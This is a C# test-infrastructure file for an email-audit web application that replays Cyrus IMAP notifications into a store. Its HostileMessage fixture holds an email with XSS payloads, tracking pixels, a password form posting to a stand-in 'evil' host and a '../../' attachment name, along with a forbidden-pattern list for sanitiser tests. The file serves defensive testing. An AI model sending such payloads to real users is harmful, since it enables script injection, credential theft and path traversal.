using System.Security.Cryptography;
using System.Text;
using Bonnie.Pipeline.Storage;
using Bonnie.Pipeline.Worker;
using Bonnie.Shared.Storage;
using Microsoft.Extensions.Configuration;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Hosting;

namespace Bonnie.Web.Tests.Infrastructure;

/// <summary>
/// The real embedded store in a temporary directory, filled by running real Cyrus notifications through the real
/// processor and handlers, as the worker does.
/// </summary>
internal sealed class TestStore : IAsyncDisposable
{
    /// <summary>alice's INBOX and Archive, and the message delivered to INBOX as UID 1 in the fixtures.</summary>
    public const string Inbox = "sufr9a0wrxwpaaifzy6ge6cu";
    public const string Archive = "oe16bupldlr2b7ax2w5twkwq";
    public const string DeliveredMessage = "M743974037cbef97becd11ce5";

    private readonly IHost _host;
    private readonly string _directory;

    private TestStore(IHost host, string directory)
    {
        _host = host;
        _directory = directory;
    }

    public IBonnieStore Store => _host.Services.GetRequiredService<IBonnieStore>();
    public IPayloadStore Payloads => _host.Services.GetRequiredService<IPayloadStore>();

    public static async Task<TestStore> CreateAsync()
    {
        var directory = Path.Combine(Path.GetTempPath(), "bonnie-web-tests", Guid.NewGuid().ToString("N"));
        Directory.CreateDirectory(directory);
        var builder = Host.CreateApplicationBuilder(new HostApplicationBuilderSettings
        {
            DisableDefaults = true,
            EnvironmentName = "Production",
            ContentRootPath = directory,
        });
        builder.Configuration.AddInMemoryCollection(new Dictionary<string, string?>
        {
            ["Bonnie:DataDirectory"] = directory,
            ["Bonnie:Payloads:MaxAttempts"] = "1",
        });
        builder.AddBonnieStore();
        var store = new TestStore(builder.Build(), directory);
        using var timeout = new CancellationTokenSource(TimeSpan.FromSeconds(30));
        await store.Store.InitializeAsync(timeout.Token);
        return store;
    }

    /// <summary>
    /// Sets <paramref name="entry"/> on <paramref name="folderId"/> as the worker does after reading it at a
    /// MailboxModseq: the folder's current METADATA and a change record naming that event, in one batch.
    /// </summary>
    public static async Task SetFolderMetadataAsync(IBonnieStore store, string folderId, string entry, string value, DateTimeOffset at)
    {
        var folder = (await store.GetFolderAsync(folderId))!;
        var before = folder.Metadata.GetValueOrDefault(entry);
        folder.Metadata[entry] = value;
        var batch = new StoreBatch();
        batch.Folders[folder.Id] = folder;
        var raw = Encoding.UTF8.GetBytes($"{{\"event\":\"MailboxModseq\",\"at\":\"{at:O}\"}}");
        var eventId = Convert.ToHexStringLower(SHA256.HashData(raw));
        batch.Events.Add(new StoredEvent
        {
            Id = eventId, Type = Bonnie.Shared.Events.EventType.MailboxModseq, Name = "MailboxModseq", Timestamp = at,
            FolderId = folder.Id, FolderName = folder.Name, Raw = raw, RawSha256 = eventId,
        });
        batch.Changes.Add(new ChangeRecord
        {
            Kind = ObjectKind.Folder, ObjectId = folder.Id, Aspect = ChangeAspect.Metadata, Key = entry, From = before, To = value,
            FolderId = folder.Id, FolderName = folder.Name, Actor = new Actor(null, null, null, "imap"), At = at, EventId = eventId,
        });
        await store.CommitAsync(batch);
    }

    /// <summary>A week of alice's mailbox: folder created, a delivery (with <paramref name="deliveredPayload"/>), an append, read, flagged, unflagged, copied, an ACL change, a session, and one unreadable notification.</summary>
    public Task FillAsync(byte[] deliveredPayload) => ProcessAsync(Story(deliveredPayload));

    /// <summary>The jobs of <see cref="FillAsync"/>, for a host's own processor.</summary>
    public static Job[] Story(byte[] deliveredPayload) =>
    [
        Job("MailboxCreate"),
        Job("MessageNew", deliveredPayload),
        Job("MessageAppend", Encoding.ASCII.GetBytes("Subject: appended\r\nMessage-ID: <179595123808.12822.3798875593729194599@probe.example.org>\r\n\r\nhello\r\n")),
        Job("MessageRead"),
        Job("FlagsSet"),
        Job("FlagsClear"),
        Job("vnd.cmu.MessageCopy"),
        Job("AclChange"),
        Job("Login"),
        Job("Logout"),
        Raw([0x7b, 0xff, 0xfe, 0x3c, 0x73, 0x63, 0x72, 0x69, 0x70, 0x74, 0x3e]),
    ];

    public Task ProcessAsync(params Job[] jobs) => ProcessInAsync(_host.Services, jobs);

    /// <summary>
    /// Runs jobs through the store processor of a host's services (this store's, or a Bonnie host's that the journeys
    /// drive), every one stored.
    /// </summary>
    public static async Task ProcessInAsync(IServiceProvider services, params Job[] jobs)
    {
        await using var scope = services.CreateAsyncScope();
        var processor = scope.ServiceProvider.GetRequiredService<StoreJobProcessor>();
        // A minute: the journeys' hosts store hundreds at once while Chromium starts beside them.
        using var timeout = new CancellationTokenSource(TimeSpan.FromSeconds(60));
        var outcomes = await processor.ProcessBatchAsync(jobs, timeout.Token);
        Assert.All(outcomes, o => Assert.IsType<JobOutcome.Done>(o));
    }

    /// <summary>Runs jobs through a processor that resolves identities with <paramref name="directory"/>, as a worker with a directory does.</summary>
    public async Task ProcessAsync(Bonnie.Pipeline.Identity.IIdentityEnricher directory, params Job[] jobs)
    {
        await using var scope = _host.Services.CreateAsyncScope();
        var processor = ActivatorUtilities.CreateInstance<StoreJobProcessor>(scope.ServiceProvider, directory);
        using var timeout = new CancellationTokenSource(TimeSpan.FromSeconds(30));
        var outcomes = await processor.ProcessBatchAsync(jobs, timeout.Token);
        Assert.All(outcomes, o => Assert.IsType<JobOutcome.Done>(o));
    }

    public static string Fixture(string name) =>
        File.ReadAllText(Path.Combine(AppContext.BaseDirectory, "TestData", "cyrus", "events", name + ".json")).TrimEnd('\n');

    /// <summary>The real MailboxRename, made the rename of alice's Archive to Contracts at 11:30, after the copy there.</summary>
    public static string ArchiveRenamedToContracts() => Fixture("MailboxRename").Replace("me1de6rfcjp143mbleivr07x", Archive, StringComparison.Ordinal)
        .Replace("user/alice/Temp%40", "user/alice/Archive%40", StringComparison.Ordinal)
        .Replace("user/alice/Temp2%40", "user/alice/Contracts%40", StringComparison.Ordinal)
        .Replace("11:20:35.044Z", "11:30:00.000Z", StringComparison.Ordinal);

    /// <summary>A job for a real notification; with a payload, as the collector would have answered it.</summary>
    public static Job Job(string fixture, byte[]? payload = null)
    {
        var job = Raw(Encoding.UTF8.GetBytes(Fixture(fixture)));
        return payload is null ? job : job with { Collected = [new CollectedItem("payload " + fixture, payload, null)] };
    }

    // The session every captured Login and Logout fixture carries.
    private const string CapturedSession = "cyrus-1795951187-11381-2-14971745235264492537";

    /// <summary>
    /// The real Login or Logout (<paramref name="fixture"/>) of another session at another time: sessions for paging,
    /// days for facets, long and unclosed sessions for the user page.
    /// </summary>
    public static Job Session(string fixture, string sessionId, DateTimeOffset at)
    {
        var json = Fixture(fixture).Replace(CapturedSession, sessionId, StringComparison.Ordinal);
        var timestamp = System.Text.RegularExpressions.Regex.Replace(json, "\"timestamp\":\"[^\"]*\"",
            $"\"timestamp\":\"{at.UtcDateTime:yyyy-MM-dd'T'HH:mm:ss.fff'Z'}\"");
        Assert.NotEqual(json, timestamp);
        return Raw(Encoding.UTF8.GetBytes(timestamp));
    }

    public static Job Raw(byte[] bytes) => new(Convert.ToHexStringLower(SHA256.HashData(bytes)), bytes, 1, DateTimeOffset.UtcNow);

    public async ValueTask DisposeAsync()
    {
        if (_host.Services.GetService<Bonnie.Pipeline.Storage.Embedded.EmbeddedStore>() is { } embedded)
        {
            await embedded.DisposeAsync();
        }
        _host.Dispose();
        Microsoft.Data.Sqlite.SqliteConnection.ClearAllPools();
        try
        {
            Directory.Delete(_directory, recursive: true);
        }
        catch (IOException)
        {
        }
    }
}

/// <summary>A message with everything an officer must be protected from in its HTML part.</summary>
internal static class HostileMessage
{
    public const string Text = """
        From: Mallory <mallory@example.net>
        To: alice@example.org
        Subject: Quarterly report
        Message-ID: <179595122889.12822.11728137019898957721@probe.example.org>
        MIME-Version: 1.0
        Content-Type: multipart/mixed; boundary="outer"

        --outer
        Content-Type: multipart/alternative; boundary="alt"

        --alt
        Content-Type: text/plain; charset=utf-8

        The plain text part of the report.
        --alt
        Content-Type: text/html; charset=utf-8

        <html><head><style>body { background: url(https://tracker.example.net/bg.png) }</style>
        <script>alert('script')</script><link rel="stylesheet" href="https://tracker.example.net/style.css"></head>
        <body onload="alert('onload')"><p>The report <b>body</b> in HTML.</p>
        <img src="https://tracker.example.net/pixel.gif" alt="pixel">
        <img src="x" onerror="alert('onerror')">
        <a href="javascript:alert('js')">click me</a>
        <a href="https://example.net/report">report link</a>
        <div style="background-image: url('https://tracker.example.net/css.png'); color: red">styled</div>
        <iframe src="https://evil.example.net/frame"></iframe>
        <form action="https://evil.example.net/steal"><input name="password"><button>Send</button></form>
        <svg><script>alert('svg')</script></svg>
        </body></html>
        --alt--
        --outer
        Content-Type: application/pdf; name="report.pdf"
        Content-Disposition: attachment; filename="../../report.pdf"
        Content-Transfer-Encoding: base64

        JVBERi0xLjQKJcfsj6IK
        --outer--

        """;

    public static byte[] Bytes => Encoding.UTF8.GetBytes(Text.ReplaceLineEndings("\r\n"));

    /// <summary>Text that must not appear anywhere in what the browser is given.</summary>
    public static readonly string[] Forbidden =
        ["<script", "alert(", "onerror", "onload", "javascript:", "tracker.example.net", "evil.example.net", "<iframe", "<form", "<input", "<link", "url("];
}
